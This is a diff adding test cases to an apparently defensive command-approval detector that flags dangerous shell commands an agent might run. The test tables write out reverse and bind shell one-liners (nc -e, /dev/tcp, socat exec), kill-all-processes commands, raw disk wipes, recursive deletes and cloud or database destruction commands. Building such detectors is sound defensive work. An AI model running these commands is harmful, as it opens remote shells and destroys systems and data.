@@ -7,7 +7,7 @@
  * same programs stays quiet.
  */
 import { describe, expect, it } from "@effect/vitest"
-import { D } from "../../../src/layers/approval/detect/descriptions.js"
+import { D, HL } from "../../../src/layers/approval/detect/descriptions.js"
 import type { DetectionEnv } from "../../../src/layers/approval/detect/detect.js"
 import { detectCommand } from "../../../src/layers/approval/detect/detect.js"
 
@@ -84,12 +84,15 @@ describe("options quoted, abbreviated, or handed over in an array", () => {
     expectTable([
       ["rm '-rf' build", "recursive delete"],
       ["rm \"-r\" build", "recursive delete"],
-      ["rm '--recursive' build", "recursive delete"],
+      ["rm '--recursive' build", "recursive delete (long flag)"],
+      ["rm -f -r build", "recursive delete"],
+      ["rm -f build -R", "recursive delete"],
+      ["rm -i --rec build", "recursive delete (long flag)"],
       ["chmod '777' /etc/passwd", "world/other-writable permissions"],
       ["find . '-delete'", "find -delete"]
     ])
     // Quoted prose stays prose.
-    expectQuiet(["echo '-rf'", "git commit -m 'rm'", "grep -r 'rm' .", "ls '-la' src"])
+    expectQuiet(["echo '-rf'", "git commit -m 'rm'", "grep -r 'rm' .", "ls '-la' src", "rm -f build.log", "rm -- -r"])
   })
 
   it("getopt's abbreviations of long options that delete", () => {
@@ -109,9 +112,14 @@ describe("options quoted, abbreviated, or handed over in an array", () => {
       ["set -- -rf; rm \"$@\" build", D.untrackedArguments],
       ["a=(-rf build); rm \"${a[@]}\"", D.untrackedArguments],
       ["rm -- \"${files[0]}\"", D.untrackedArguments],
-      ["find \"$@\"", D.untrackedArguments]
+      ["set -e -- -delete; find . \"$@\"", D.untrackedArguments]
     ])
-    expectQuiet(["files=(a.txt b.txt); echo \"${files[@]}\"", "for f in *.tmp; do rm \"$f\"; done", "tmp=$(mktemp); rm -f \"$tmp\""])
+    // A function's "$@" is the call's arguments: the call is judged with them (here: quiet, then recursive).
+    expectQuiet([
+      "files=(a.txt b.txt); echo \"${files[@]}\"", "for f in *.tmp; do rm \"$f\"; done", "tmp=$(mktemp); rm -f \"$tmp\"",
+      "view() { /bin/rm \"$@\"; }", "clean() { rm -f \"$@\"; }; clean a.o b.o"
+    ])
+    expect(dangerous("clean() { rm -f \"$@\"; }; clean -r build")).toBe("recursive delete")
   })
 })
 
@@ -149,5 +157,88 @@ describe("CMake code the gate does not read", () => {
       ["ctest -D Experimental", D.opaqueCode]
     ])
     expectQuiet(["cmake --build build", "cmake --build build --target install", "cmake --install build", "cmake --version", "cmake -E echo hi", "ctest -N", "ctest --output-on-failure"])
+  })
+})
+
+describe("hardline operations spelled another way stay hardline", () => {
+  const hardline = (command: string) => detectCommand(command, AGENT).hardline_description
+
+  it("kill of every process, whatever the signal's spelling and wherever -1 stands", () => {
+    for (const command of ["kill -s 9 -1", "kill -s KILL -1", "kill -n 9 -1", "kill -1", "kill -TERM -1", "kill -9 -- -1", "kill 1234 -1", "killall5 -9", "kill '-9' '-1'"]) {
+      expect([command, hardline(command)]).toEqual([command, "kill all processes"])
+    }
+    for (const command of ["kill -9 1234", "kill -l", "kill %1", "kill -s TERM 4321"]) expect([command, hardline(command)]).toEqual([command, null])
+  })
+
+  it("a raw disk formatted, partitioned, wiped or overwritten by any tool, not only mkfs and dd", () => {
+    for (const command of [
+      "wipefs -a /dev/sda", "blkdiscard /dev/nvme0n1", "sgdisk --zap-all /dev/sda", "parted -s /dev/sda mklabel gpt", "sfdisk /dev/sda < t",
+      "mkswap /dev/sda1", "cryptsetup luksFormat /dev/sda", "mke2fs /dev/sda1", "cp x.img /dev/sdb", "tee /dev/sda < x", "shred /dev/sda",
+      "sgdisk --zap-all --print /dev/sda", "fdisk /dev/sda < layout", "mke2fs -t ext4 /dev/sda1"
+    ]) {
+      expect([command, hardline(command)]).toEqual([command, HL.diskWrite])
+    }
+    for (const command of [
+      "cp /dev/sda1 backup.img", "parted -l", "parted /dev/sda print", "fdisk -l /dev/sda", "sfdisk -d /dev/sda", "wipefs /dev/sda",
+      "wipefs disk.img", "sgdisk -p /dev/sda", "mke2fs -n /dev/sda1", "nvme smart-log /dev/nvme0n1", "hdparm -I /dev/sda",
+      "cryptsetup luksDump /dev/sda2", "badblocks -sv /dev/sda"
+    ]) {
+      expect([command, hardline(command)]).toEqual([command, null])
+    }
+  })
+})
+
+describe("shells wired to the network, services stopped through other front ends", () => {
+  it("reverse and bind shells take commands the gate never sees", () => {
+    expectTable([
+      ["nc -e /bin/sh 10.0.0.1 4444", D.networkShell],
+      ["nc -lvnp 4444 -e /bin/bash", D.networkShell],
+      ["ncat --sh-exec 'bash' 10.0.0.1 4444", D.networkShell],
+      ["busybox nc 10.0.0.1 4444 -e sh", D.networkShell],
+      ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", D.networkShell],
+      ["exec 3<>/dev/udp/10.0.0.1/53", D.networkShell],
+      ["socat exec:'bash -li',pty tcp:10.0.0.1:4444", D.networkShell],
+      ["socat TCP:10.0.0.1:4444 EXEC:sh", D.networkShell]
+    ])
+    expectQuiet(["nc -zv localhost 80", "nc -l 8080", "socat - tcp:localhost:80", "curl localhost:8080"])
+  })
+
+  it("service and rc-service stop or restart a service as systemctl does", () => {
+    expectTable([
+      ["service sshd stop", "stop/restart system service"],
+      ["sudo service nginx restart", "stop/restart system service"],
+      ["rc-service nginx stop", "stop/restart system service"]
+    ])
+    expectQuiet(["service nginx status", "service --status-all"])
+  })
+})
+
+describe("infrastructure and service data destroyed", () => {
+  it("cloud, cluster, container engine and database commands that delete ask; listing, planning and dry runs do not", () => {
+    for (const command of [
+      "terraform destroy -auto-approve", "terraform -chdir=infra apply -destroy", "tofu state rm aws_instance.x",
+      "kubectl -n prod delete pod x", "kubectl delete ns prod", "helm uninstall app", "docker system prune -af", "docker volume rm data",
+      "docker rm -f web", "podman system reset", "aws s3 sync . s3://b --delete", "aws s3 rb s3://b --force",
+      "aws --region us-east-1 rds delete-db-instance --db-instance-identifier x", "aws ec2 terminate-instances --instance-ids i-1",
+      "gcloud compute instances delete vm1", "az group delete -n rg", "gsutil rb gs://b", "redis-cli -n 2 FLUSHDB", "dropdb prod"
+    ]) {
+      expect([command, dangerous(command)]).toEqual([command, D.infraDelete])
+    }
+    expectQuiet([
+      "terraform plan", "terraform apply", "kubectl get pods", "kubectl delete pod x --dry-run=client", "helm list", "docker ps", "docker rm x",
+      "aws s3 ls", "aws s3 cp a s3://b/a", "gcloud projects list", "redis-cli get x"
+    ])
+  })
+})
+
+describe("names xargs and find fill in when the command runs", () => {
+  it("are values only known then: an operand for unlink, a program name for xargs -I{} {}", () => {
+    expectTable([
+      ["echo notes.txt | xargs unlink", D.unlink],
+      ["find . -name '*.log' -execdir unlink {} +", D.unlink],
+      ["echo app.log | xargs truncate -s 0", D.truncate],
+      ["ls | xargs -I{} {} -rf build", "command name computed at run time"]
+    ])
+    expectQuiet(["find . -name '*.py' -exec wc -l {} +", "find . -name '*.sh' | xargs chmod +x", "git ls-files | xargs git add", "ls | xargs -I{} echo {}"])
   })
 })
